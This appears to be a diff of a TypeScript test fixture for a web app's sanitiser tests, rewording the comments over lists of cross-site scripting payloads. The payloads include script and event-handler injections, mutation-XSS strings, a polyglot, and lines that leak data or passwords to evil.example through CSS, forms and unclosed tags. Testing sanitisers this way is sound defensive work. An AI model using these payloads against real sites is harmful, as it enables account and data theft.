@@ -1,12 +1,12 @@
 /**
- * Texts by which scripts have been smuggled past sanitisers (quality.md «Security» 13). Each would set
- * `window.pwned`, open a dialog or ask another host if it came alive.
+ * Texts that have passed scripts through sanitisers (quality.md «Security» 13). Each would set
+ * `window.pwned`, open a dialog or contact another host if it ran.
  */
 
 const go = 'window.pwned=1';
 
 export const attacks: readonly string[] = [
-  // Scripts, plain and disguised.
+  // Scripts, plain and obfuscated.
   `<script>${go}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
   `<scr<script>ipt>${go}</scr</script>ipt>`,
@@ -60,7 +60,7 @@ export const attacks: readonly string[] = [
   `<meta http-equiv="refresh" content="0;url=javascript:${go}">`,
   `<link rel=stylesheet href="https://evil.example/x.css">`,
   `<a href="//evil.example">x</a>`,
-  // Documents within the document.
+  // Nested documents.
   `<iframe src="javascript:${go}"></iframe>`,
   `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
   `<iframe srcdoc="&lt;img src=x onerror=parent.pwned=1&gt;"></iframe>`,
@@ -83,7 +83,7 @@ export const attacks: readonly string[] = [
   `<math><mtext><script>${go}</script></mtext></math>`,
   `<math href="javascript:${go}">x</math>`,
   `<math><maction actiontype="statusline#" xlink:href="javascript:${go}">x</maction></math>`,
-  // Mutations: harmless when read once, alive when read again.
+  // Mutations: harmless when parsed once, active when parsed again.
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${go}&gt;">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${go}>">`,
   `<math><mi><table><mglyph><style><math></style><img src onerror=${go}></mglyph></table></mi></math>`,
@@ -103,7 +103,7 @@ export const attacks: readonly string[] = [
   `<p title='"><img src=x onerror=${go}>'>x</p>`,
   `<a title="x" href='"onmouseover=${go}//'>x</a>`,
   `<img alt="\`&gt;&lt;script&gt;${go}&lt;/script&gt;" src="x">`,
-  // Code that is made colourful on the server.
+  // Code that the server highlights.
   `<pre><code class="language-html">&lt;script&gt;${go}&lt;/script&gt;</code></pre>`,
   `<pre><code class="language-html"><script>${go}</script></code></pre>`,
   `<pre><code class='language-js" onmouseover="${go}'>x</code></pre>`,
@@ -115,14 +115,14 @@ export const attacks: readonly string[] = [
   `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
   `<style>@import "https://evil.example/x.css";</style>`,
   `<style>*{background:url("https://evil.example/leak")}</style>`,
-  // Names that stand in for the page's own.
+  // Names that replace the page's own globals.
   `<a id="__reactRouterContext"></a><form id="document"><input name="cookie"></form>`,
   `<img name="currentScript" src="x">`,
-  // Headings, whose words become anchors and a table of contents.
+  // Headings, whose texts become anchors and a table of contents.
   `<h2>"><img src=x onerror=${go}></h2>`,
   `<h2 id='"><img src=x onerror=${go}>'>x</h2>`,
   `<h2>&lt;img src=x onerror=${go}&gt;</h2>`,
-  // Elements and events that came later than most lists of them.
+  // Elements and events newer than most lists of them.
   `<xss id=x tabindex=1 onfocus="${go}"></xss>`,
   `<xss onpointerrawupdate="${go}" style="display:block">x</xss>`,
   `<div popover id=p onbeforetoggle="${go}">x</div><button popovertarget=p>x</button>`,
@@ -151,7 +151,7 @@ export const attacks: readonly string[] = [
   `<form action="https://evil.example"><input name="password"><button>x</button></form>`,
   `<meta charset="utf-7">+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-`,
   `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${go}</script>`,
-  // Mutations across namespaces, as they were found in sanitisers of browsers.
+  // Mutations across namespaces that were found in browsers' sanitisers.
   `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${go} src=1>">`,
   `<svg><title><a id="</title><img src=x onerror=${go}>"></a></title></svg>`,
   `<svg><desc><noscript><a title="</noscript><img src=x onerror=${go}>"></a></noscript></desc></svg>`,
@@ -169,31 +169,31 @@ export const attacks: readonly string[] = [
   `<template shadowrootmode="open"><img src=x onerror=${go}></template>`,
   `<img src=x title="&lt;/title&gt;&lt;script&gt;${go}&lt;/script&gt;" alt="--><script>${go}</script>">`,
   `<time datetime='"><img src=x onerror=${go}>'>x</time><abbr title='</abbr><script>${go}</script>'>x</abbr>`,
-  // Encoded once or twice too often; languages of templates.
+  // Encoded twice, and template languages.
   `%3Cscript%3E${go}%3C/script%3E`,
   `&amp;lt;script&amp;gt;${go}&amp;lt;/script&amp;gt;`,
   `{{constructor.constructor('${go}')()}}\${${go}}<%= ${go} %>[[${go}]]`,
-  // One for every place at once.
+  // A polyglot for many contexts.
   `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${go}//'>`,
   // Hydration data.
   `</script><script>${go}</script>`,
   `\u2028\u2029</script><!--<script>${go}//-->`,
   `{"__proto__":{"pwned":1}}<!--`,
-  // Marks left open, which swallow what follows: so they come last.
+  // Unclosed markup that swallows what follows: so it comes last.
   `<img src='https://evil.example/?`,
   `'><textarea><plaintext>`,
   `<base target='`,
   `<a href="https://evil.example/`,
 ];
 
-/** No database takes a NUL: these are refused whole, and rendered as harmlessly as the others. */
+/** PostgreSQL does not accept NUL: these are refused, and rendered harmlessly. */
 export const attacksWithNul: readonly string[] = [
   `<scr\u0000ipt>${go}</scr\u0000ipt>`,
   `<img src=x one\u0000rror="${go}" \u0000onerror="${go}">`,
   `<a href="java\u0000script:${go}">x</a>`,
 ];
 
-/** Texts for titles, names and descriptions, which are not HTML: they are shown to the letter. */
+/** Titles, names and descriptions, which are plain text: they are shown unchanged. */
 export const attackingTexts: readonly string[] = [
   `</script><script>${go}</script>`,
   `<!--<script>${go}//`,
